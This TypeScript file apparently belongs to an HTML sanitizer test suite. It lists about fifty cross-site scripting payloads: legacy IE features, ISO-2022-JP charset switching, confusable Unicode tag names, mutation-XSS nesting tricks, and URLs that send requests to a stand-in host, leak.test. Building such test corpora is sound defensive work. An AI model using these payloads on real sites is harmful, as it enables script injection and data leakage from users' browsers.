import { LEAK, RUN, type Family } from './payload'

const SCRIPT = `<script>${RUN}</script>`
/** An escape sequence that switches to another alphabet in the encoding ISO-2022-JP. */
const JIS = '\u001b(J'
const TWO_BYTE = '\u001b$B'
const ASCII = '\u001b(B'

/** Features of old browsers, confusable letters, and URL schemes of other programs. */
export const legacyFeatures: Family = {
  name: 'legacy elements, confusable letters and other URL schemes',
  pages: [
    `<!--[if IE]>${SCRIPT}<![endif]--><!--[if !IE]><!-->${SCRIPT}<!--<![endif]-->`,
    `<![if gte IE 5]>${SCRIPT}<![endif]>`,
    `<xml id=i><x><c>&lt;img src=x onerror="${RUN}"&gt;</c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>`,
    `<?import namespace="t" implementation="#default#time2"><t:set attributeName=innerHTML to="&lt;img src=x onerror=${RUN}&gt;">`,
    `<html xmlns:x="${LEAK}"><?import namespace=x implementation="${LEAK}.htc"><x:a onclick="${RUN}">x</x:a>`,
    `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value="${LEAK}"></object>`,
    `<embed type="application/x-shockwave-flash" src="${LEAK}" allowscriptaccess=always flashvars="a=${RUN}">`,
    `<isindex action="${LEAK}" prompt="<img src=x onerror=${RUN}>"><nextid n=a>`,
    `<server>${SCRIPT}</server><comment>${SCRIPT}</comment><nolayer>${SCRIPT}</nolayer>`,
    `<img src="&{${RUN}};"><br size="&{${RUN}}">`,
    `<p style="x:x" onactivate="${RUN}" onbeforeactivate="${RUN}" onpropertychange="${RUN}" onreadystatechange="${RUN}">x</p>`,
    `<a folder="${LEAK}" style="behavior:url(#default#AnchorClick)" href="#">x</a>`,
    `<p>${JIS}${SCRIPT}${ASCII}</p><img alt="${TWO_BYTE}"><p title="${ASCII}><img src=x onerror=${RUN}>">x</p>`,
    `<p title="${TWO_BYTE}">x</p>${ASCII}${SCRIPT}`,
    `<meta http-equiv=content-type content="text/html; charset=iso-2022-jp">${TWO_BYTE}x${ASCII}${SCRIPT}`,
    `<\u017Fcript>${RUN}</\u017Fcript><scr\u0131pt>${RUN}</scr\u0131pt><SCR\u0130PT>${RUN}</SCR\u0130PT>`,
    `<lin\u212A rel=stylesheet href="${LEAK}"><\u212Aeygen autofocus onfocus="${RUN}">`,
    `<img src=x on\u00ADerror="${RUN}" \u200Bonerror="${RUN}" ｏｎerror="${RUN}">`,
    `<p\u00A0onclick="${RUN}" \u2028onclick="${RUN}"\u2029onmouseover="${RUN}">x</p>`,
    `<body id=a><body onload="${RUN}"><html onmouseover="${RUN}" onfocus="${RUN}">x`,
    `</body></html><body onpageshow="${RUN}">${SCRIPT}`,
    `<p id=a id="b" class="x" class="y" onclick onclick="${RUN}" <img src=x onerror="${RUN}">x</p>`,
    `<p ="x" '="${RUN}" <script>="x" onclick<="${RUN}">x</p>`,
    `<a href="intent://leak.test/#Intent;scheme=http;S.browser_fallback_url=${LEAK};end" autofocus>x</a>`,
    `<a href="view-source:${LEAK}">x</a><a href="chrome://settings">x</a><a href="about:config">x</a>`,
    `<a href="filesystem:${LEAK}">x</a><a href="jar:${LEAK}!/">x</a><a href="feed:javascript:${RUN}">x</a>`,
    `<a href="web+x:y">x</a><a href="ms-settings:x">x</a><a href="search-ms:query=x&crumb=location:\\\\leak.test\\x">x</a>`,
    `<img src="\\\\?\\UNC\\leak.test\\x"><img src="file://leak.test/x"><img src="ftp://leak.test/x.png">`,
    `<img src="http://pic.test/one.png"><img src="http://leak。test/x"><img src="http://ⓛⓔⓐⓚ.test/x"><img src="http://0x7f.1/x">`,
    `<img src="http://pic.test/one.png"><img src="https:/leak.test/x"><img src="https:\\\\leak.test\\x"><img src="///leak.test/x">`,
    `<img src="http://pic.test/one.png#http://leak.test"><img src="http://pic.test@leak.test/one.png">`,
    `<a target=Persona_page href="${LEAK}">x</a><a target="persona-preview" href="${LEAK}">x</a><a target=_unfencedTop href="${LEAK}">x</a>`,
    `<a href="http://leak.test/" rel="opener prefetch prerender dns-prefetch preconnect external noreferrer">x</a>`,
    `<input type=password name=p autocomplete=current-password><input type=file webkitdirectory><input list=l><datalist id=l><option>x</datalist>`,
    `<form id=f></form><button form=f formmethod=get formtarget=_top formnovalidate formaction="${LEAK}" autofocus>x</button>`,
    `<a id=user-content-x name=body href="#body">x</a><p id="user-content-user-content-x" itemscope itemid="${LEAK}" itemref=x>x</p>`,
    `<p xml:base="http://leak.test/" xlink:href="javascript:${RUN}" xmlns="http://www.w3.org/2000/svg" xml:id=x>x</p>`,
    `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${RUN}</svg:script><html:script>${RUN}</html:script>`,
    `<option><style></option></select><img src=x onerror="${RUN}"></style>`,
    `<ruby><rtc><style><rt title="</style><img src=x onerror=${RUN}>"></ruby>`,
    `<table><tr><select><tr><td title="</select><img src=x onerror=${RUN}>">x</table>`,
    `${'<div>'.repeat(240)}<form><input name=parentNode><form><svg><style><a id="</style><img src=x onerror=${RUN}>">`,
    `${'<a><b>'.repeat(60)}<math><mi><style></b></a><img src=x onerror="${RUN}"></style>`,
    `<svg><foreignObject><math><annotation-xml encoding="text/html"><p><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
    `<svg><title><a><b><style><p title="</style></title><img src=x onerror=${RUN}>">`,
    `<math><annotation-xml encoding="application/xhtml+xml"><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<p title="]]>${SCRIPT}"><![CDATA[</p>]]>${SCRIPT}`,
    `<!ELEMENT x ANY><!ATTLIST x onclick CDATA "${RUN}"><x>x</x>`,
  ],
}
